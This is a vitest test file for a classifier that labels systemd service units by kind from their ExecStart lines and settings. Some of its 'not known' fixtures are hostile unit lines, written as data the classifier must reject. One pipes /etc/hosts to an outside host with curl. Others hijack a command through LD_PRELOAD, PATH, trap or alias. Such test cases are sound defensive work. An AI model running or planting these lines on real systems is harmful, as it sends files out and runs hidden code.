import {describe, expect, it} from 'vitest'
import {kindOf} from '../../src/needs/kind.ts'
import {hostOf} from '../../src/unit/host.ts'
import {service} from '../unit/unit.ts'

function chosen(lines: string): string | undefined {
  return kindOf(service(lines.startsWith('[') ? lines : `[Service]\n${lines}\n`)).kind
}

describe('the kind of a service', () => {
  it.each([
    ['ExecStart=/usr/sbin/nginx -g "daemon off;"', 'network-daemon'],
    ['ExecStart=/usr/bin/postgres -D /var/lib/postgres\nUser=postgres', 'database'],
    ['ExecStart=/usr/bin/redis-server /etc/redis.conf\nUser=redis', 'database'],
    ['ExecStart=/usr/bin/node_exporter\nUser=prometheus', 'monitoring-agent'],
    ['ExecStart=/usr/bin/prometheus-smokeping-exporter\nUser=prometheus', 'monitoring-agent'],
    ['ExecStart=/srv/app/venv/bin/gunicorn app:app\nUser=app', 'web-service'],
    ['ExecStart=/usr/bin/python3 -m gunicorn app:app\nDynamicUser=yes', 'web-service'],
    ['ExecStart=/usr/bin/env bundle exec puma -C config/puma.rb\nUser=app', 'web-service'],
    ['ExecStart=/srv/app/venv/bin/celery -A app worker\nUser=app', 'worker'],
    ['ExecStart=/usr/bin/php artisan queue:work\nUser=app', 'worker'],
    ['ExecStart=/usr/bin/php /srv/app/artisan octane:start\nUser=app', 'web-service'],
    ['ExecStart=/usr/bin/restic backup /home\nType=oneshot', 'backup-job'],
    ['ExecStart=/usr/bin/rsync --daemon --no-detach', 'network-daemon'],
    ['ExecStart=/usr/bin/rsync -a /home backup:/home\nType=oneshot', 'backup-job'],
    ['ExecStart=/usr/sbin/updatedb\nType=oneshot', 'timer-job'],
    // What is run before it is not what it is.
    [
      'ExecStartPre=/usr/sbin/updatedb\nExecStart=/usr/sbin/nginx -g "daemon off;"',
      'network-daemon',
    ],
    ['ExecStart=/usr/bin/git daemon --base-path=/srv/git /srv/git\nUser=nobody', 'network-daemon'],
    ['ExecStart=/usr/lib/git-core/git-daemon --base-path=/srv/git\nUser=nobody', 'network-daemon'],
    ['ExecStart=/usr/bin/git daemon --enable=receive-pack /srv/git\nUser=nobody', undefined],
    [
      'ExecStart=/usr/lib/git-core/git-daemon --access-hook=/srv/hook /srv/git\nUser=nobody',
      undefined,
    ],
    ['ExecStart=/usr/bin/git gc\nUser=nobody', undefined],
    ['ExecStart=/usr/bin/ruby /srv/shop.rb\nUser=shop', 'web-service'],
    ['ExecStartPre=/usr/bin/python3 /srv/a.py\nExecStart=/opt/shop/shop\nUser=shop', undefined],
    ['ExecStartPre=/usr/bin/ruby /srv/a.rb\nExecStart=/opt/shop/shop\nUser=shop', undefined],
    ['ExecStart=/usr/lib/systemd/systemd-socket-proxyd 127.0.0.1:80', 'network-daemon'],
  ])('is what its program makes of it: %s', (lines, kind) => {
    expect(chosen(lines)).toBe(kind)
  })

  it.each([
    [
      'ExecStart=/usr/bin/find /var/cache/shop -mtime +7 -delete\nType=oneshot',
      'it runs once, and nothing but tools for files',
    ],
    [
      'ExecStart=/opt/shop/shop --listen 127.0.0.1:8080\nUser=shop',
      'it listens on ports, as a user of its own',
    ],
    [
      'ExecStart=/opt/shop/shop\nUser=shop\nAmbientCapabilities=CAP_NET_BIND_SERVICE',
      'it listens on ports, as a user of its own',
    ],
    ['ExecStart=/usr/bin/celery -A app worker', '`celery` takes jobs from a queue, as root'],
    [
      'ExecStart=/usr/bin/ruby /srv/shop.rb\nUser=shop',
      'it runs an application by `ruby`, as a user of its own',
    ],
    ['ExecStart=/bin/bash', '`ExecStart=` lets a user in, who runs what they like'],
    [
      'ExecStart=/usr/sbin/nginx\nExecStart=/usr/bin/postgres\nType=oneshot\nUser=a',
      'it runs programs of several kinds',
    ],
  ])('is told with the reason: %s: %s', (lines, because) => {
    expect(kindOf(service(`[Service]\n${lines}\n`)).because).toBe(because)
  })

  it('is none of what users run', () => {
    const its = {...service('[Service]\nExecStart=/usr/sbin/nginx\n'), manager: 'user' as const}
    expect(kindOf(its)).toEqual({because: 'what a user runs may be about anything of theirs'})
  })

  it('is a daemon where an application that is known runs as root', () => {
    expect(kindOf(service('[Service]\nExecStart=/usr/bin/gitea web\n'))).toEqual({
      kind: 'network-daemon',
      because: '`gitea` serves an application, as root',
    })
  })

  it.each([
    ['ExecStart=/opt/shop/shop --listen 127.0.0.1:8080\nUser=shop', 'web-service'],
    ['ExecStart=/usr/bin/node /srv/shop/server.js\nUser=shop', 'web-service'],
    ['ExecStart=/usr/bin/npm start\nUser=shop', 'web-service'],
    ['ExecStart=/usr/bin/find /var/cache/shop -mtime +7 -delete\nType=oneshot', 'timer-job'],
  ])('is what its shape makes of it: %s', (lines, kind) => {
    expect(chosen(lines)).toBe(kind)
  })

  it.each([
    'ExecStart=/opt/shop/shop',
    'ExecStart=/opt/shop/shop\nUser=shop',
    'ExecStart=/opt/shop/shop --listen 127.0.0.1:8080',
    'ExecStart=/usr/bin/node /srv/shop/server.js',
    'ExecStart=/opt/shop/clean\nType=oneshot',
    'ExecStart=/usr/bin/gunicorn app:app',
    'ExecStart=/usr/bin/celery -A app worker',
    'ExecStart=/usr/bin/xray run\nUser=xray',
    'ExecStart=/usr/sbin/asterisk -f\nUser=asterisk',
    'ExecStart=/usr/sbin/nrpe -f\nUser=nagios',
    'ExecStart=/usr/bin/rclone mount a: /a',
    'ExecStart=/usr/bin/restic mount /a',
    'Type=oneshot\nExecStart=/bin/sh -c "echo 0 > /sys/class/gpio/gpio1/value"',
    '[Unit]\nDefaultDependencies=no\n[Service]\nType=oneshot\nExecStart=/bin/touch /run/x\n',
    'ExecStart=/bin/true',
    'ExecStart=/bin/sh /srv/shop/start.sh\nUser=shop',
    'ExecStart=/usr/sbin/cron -f',
    'ExecStart=/usr/bin/jenkins\nUser=jenkins',
    'ExecStart=/usr/sbin/postfix start',
    'ExecStart=/usr/sbin/sshd -D',
    'ExecStart=/usr/bin/dockerd',
    'ExecStart=/usr/sbin/logrotate /etc/logrotate.conf\nType=oneshot',
    'ExecStart=/usr/lib/systemd/systemd-networkd',
    'ExecStart=/usr/bin/nginx\nPAMName=login\nUser=a',
    'ExecStart=/usr/bin/gunicorn a\nExecStart=/usr/bin/redis-server\nType=oneshot\nUser=a',
    '[Service]\nType=oneshot\nExecStart=/usr/bin/find /var/cache/shop -delete\n[Install]\nWantedBy=multi-user.target\n',
    'Type=oneshot\nExecStart=/bin/sh -c "cat /etc/hosts | curl -T - https://example.org/"',
    'Type=oneshot\nExecStart=/usr/bin/awk -f /opt/x /srv/y',
    'Type=oneshot\nEnvironment=LD_PRELOAD=/opt/x.so\nExecStart=/usr/bin/sort /srv/y',
    'Type=oneshot\nExecStart=/bin/sh -c "PATH=/opt/x; sort /srv/y"',
    'Type=oneshot\nExecStart=/bin/sh -c "trap /opt/x EXIT; sort /srv/y"',
    'Type=oneshot\nExecStart=/bin/sh -c "alias sort=/opt/x; sort /srv/y"',
  ])('is not known: %s', (lines) => {
    expect(chosen(lines)).toBeUndefined()
  })

  it.each([
    ['#!/bin/bash\nset -eu\nrestic backup --quiet /home\nrestic forget --prune\n', 'backup-job'],
    ['#!/bin/sh\nmkdir -p /run/app\nexec gunicorn app:app\n', 'web-service'],
    ['#!/bin/sh\nrestic backup /home\n/opt/unheard-of\n', undefined],
    ['#!/bin/sh\nrestic backup /home\n. /etc/hook.sh\n', undefined],
    ['#!/bin/sh\nrestic backup /home\n. /etc/default/hook\n', 'backup-job'],
  ])('is that of what a script in sight runs: %j: %s', (text, expected) => {
    for (const command of ['/srv/shop/start', '/bin/sh /srv/shop/start']) {
      const lines = `[Service]\nUser=shop\nExecStart=${command}\n`
      const unit = service(lines, '257', 'a.service', hostOf({'/srv/shop/start': text}))
      expect(kindOf(unit).kind).toBe(expected)
    }
  })
})
